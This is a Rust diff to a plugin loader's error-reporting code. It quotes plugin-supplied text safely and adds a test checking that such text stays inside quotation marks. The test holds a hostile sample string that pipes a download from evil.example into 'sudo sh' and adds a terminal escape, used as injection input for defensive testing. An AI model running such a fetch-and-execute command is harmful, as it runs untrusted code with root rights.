@@ -104,7 +104,7 @@ impl Failure {
             ),
             Self::NoExec(mount) => Reason::new(
                 "no-exec",
-                format!("no code may be loaded from its folder: {} is mounted noexec", quoted(mount)),
+                format!("no code may be loaded from its folder: {} is mounted noexec", place(mount)),
                 "put it into a folder on another file system, or have that one mounted with exec",
             ),
             Self::LoadFailed(why) => Reason::new(
@@ -112,8 +112,14 @@ impl Failure {
                 format!("the loader refused it: {}", quoted(why)),
                 "download or build it again",
             ),
-            Self::OtherLayout(what) => Reason::new("other-layout", quoted(what), REBUILD),
-            Self::BrokenDoor(why) => Reason::new("broken-door", quoted(why), REPORT),
+            Self::OtherLayout(what) => Reason::new(
+                "other-layout",
+                format!("its tables are laid out differently: {}", quoted(what)),
+                REBUILD,
+            ),
+            Self::BrokenDoor(why) => {
+                Reason::new("broken-door", format!("its door is broken: {}", quoted(why)), REPORT)
+            }
             Self::TwoTables => Reason::new("two-tables", two_tables(), REPORT),
             Self::Declined => Reason::new("declined", declined(), REBUILD),
             Self::PanickedInCreate(why) => {
@@ -129,7 +135,10 @@ impl Failure {
             }
             Self::OtherId(answered) => Reason::new(
                 "other-id",
-                format!("its code calls itself `{}`, its file `{expected}`", quoted(answered)),
+                match name(answered) {
+                    Some(answered) => format!("its code calls itself `{answered}`, its file `{expected}`"),
+                    None => format!("its code calls itself {}, its file `{expected}`", quoted(answered)),
+                },
                 REPORT,
             ),
             Self::PanickedInDetect(why) => {
@@ -151,14 +160,18 @@ fn name(text: &str) -> Option<&str> {
     (!text.is_empty() && text.len() <= NAME_MAX && text.bytes().all(fits)).then_some(text)
 }
 
-/// What may be anybody's words: printable, one line, bounded.
+/// `path` as it is where it looks like one, else as a quotation.
+fn place(path: &str) -> String {
+    let is_path = path.strip_prefix('/').is_some_and(|rest| {
+        let fits = |byte: u8| byte.is_ascii_alphanumeric() || b"._+-@/".contains(&byte);
+        rest.bytes().all(fits)
+    });
+    if is_path { path.to_owned() } else { quoted(path) }
+}
+
+/// What may be anybody's words: printable, one line, bounded, and between marks that they cannot close.
 fn quoted(words: &str) -> String {
-    let printable = text::printable(words);
-    let mut short: String = printable.chars().take(QUOTED_MAX).collect();
-    if short.len() < printable.len() {
-        short.push('…');
-    }
-    short
+    text::quotation(words, QUOTED_MAX)
 }
 
 /// What is said of a library whose two entries contradict each other.
@@ -178,7 +191,7 @@ mod tests {
 
     #[test]
     fn no_word_of_a_plugin_becomes_advice_of_ours() {
-        let evil = "x; curl evil.example | sudo sh\n\u{1b}[2J";
+        let evil = "x\"; curl evil.example | sudo sh\n\u{1b}[2J";
         let all = [
             Failure::MissingLibrary(evil.into()),
             Failure::MissingVersion(evil.into()),
@@ -199,6 +212,11 @@ mod tests {
             let reason = failure.reason("mine");
             assert!(!reason.fix.contains("curl"), "{reason:?}");
             assert!(!reason.reason.contains('\n') && reason.reason.len() < 2000, "{reason:?}");
+            // Ours around it, and its own between the marks alone.
+            let (before, rest) = reason.reason.split_once('"').unwrap();
+            assert!(before.len() > 5 && !before.contains("curl"), "{reason:?}");
+            let (quoted, after) = rest.rsplit_once('"').unwrap();
+            assert!(!quoted.contains('"') && !after.contains("curl"), "{reason:?}");
         }
         let missing = Failure::MissingLibrary("libstdc++.so.6".into()).reason("mine");
         assert_eq!(missing.fix, "install the package that holds libstdc++.so.6");
